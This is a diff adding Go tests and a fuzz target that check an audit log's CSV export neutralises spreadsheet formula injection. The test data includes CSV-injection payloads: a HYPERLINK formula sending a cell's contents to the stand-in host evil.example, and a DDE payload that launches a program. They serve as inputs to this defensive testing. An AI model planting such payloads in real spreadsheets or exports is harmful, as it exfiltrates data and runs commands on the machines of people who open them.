@@ -1,7 +1,10 @@
 package audit
 
 import (
+	"bytes"
+	"encoding/csv"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -56,4 +59,90 @@ func TestCSVIsTheExportBeforePlusFormatVersion(t *testing.T) {
 			t.Errorf("CSVRecord mismatch (-want +got):\n%s", diff)
 		}
 	}
+}
+
+// formulaReasons are reasons a spreadsheet would run, and texts it would not.
+var formulaReasons = []string{
+	`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1",
+	"=cmd|' /C calc'!A0", "plain reason", `[{"Effect":"Allow"}]`, "", "'already quoted", " =1", "日本語",
+}
+
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
+		{"-1", "'-1"},
+		{"+1", "'+1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{`[{"Effect":"Allow"}]`, `[{"Effect":"Allow"}]`},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := CSVCell(tt.in); got != tt.want {
+			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	e := fullEntry()
+	e.Reason, e.Actor, e.ErrorMessage, e.Note = tests[0].in, "-actor", "@upstream", "=note"
+	rec := e.CSVRecord()
+	header := CSVHeader()
+	want := map[string]string{"reason": tests[0].want, "actor": "'-actor", "error_message": "'@upstream", "note": "'=note",
+		"policy_before": `[{"Resource":["a<b>&c"]}]`, "id": "42"}
+	for i, name := range header {
+		if w, ok := want[name]; ok && rec[i] != w {
+			t.Errorf("%s = %q, want %q", name, rec[i], w)
+		}
+	}
+}
+
+// FuzzCSVRecord checks that no cell of an exported row starts a formula,
+// that every cell is the field's text (with a quote in front when it would
+// have), and that the row round-trips through encoding/csv.
+func FuzzCSVRecord(f *testing.F) {
+	for _, r := range formulaReasons {
+		f.Add(r, "alice", "")
+	}
+	f.Fuzz(func(t *testing.T, reason, actor, message string) {
+		e := fullEntry()
+		e.Reason, e.Actor, e.ErrorMessage = reason, actor, message
+		rec := e.CSVRecord()
+		for i, cell := range rec {
+			if StartsFormula(cell) {
+				t.Fatalf("column %s starts a formula: %q", csvColumns[i], cell)
+			}
+		}
+		for i, name := range csvColumns {
+			in := map[string]string{"reason": reason, "actor": actor, "error_message": message}
+			if v, ok := in[name]; ok {
+				want := v
+				if StartsFormula(v) {
+					want = "'" + v
+				}
+				if rec[i] != want {
+					t.Fatalf("%s = %q, want %q", name, rec[i], want)
+				}
+			}
+		}
+		var buf bytes.Buffer
+		w := csv.NewWriter(&buf)
+		if err := w.Write(rec); err != nil {
+			t.Fatal(err)
+		}
+		w.Flush()
+		got, err := csv.NewReader(&buf).Read()
+		if err != nil {
+			t.Fatalf("read back: %v", err)
+		}
+		// encoding/csv reads a quoted "\r\n" as "\n": that is the format's,
+		// not the export's, loss.
+		norm := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
+		for i := range rec {
+			if norm(rec[i]) != got[i] {
+				t.Fatalf("column %s: wrote %q, read %q", csvColumns[i], rec[i], got[i])
+			}
+		}
+	})
 }
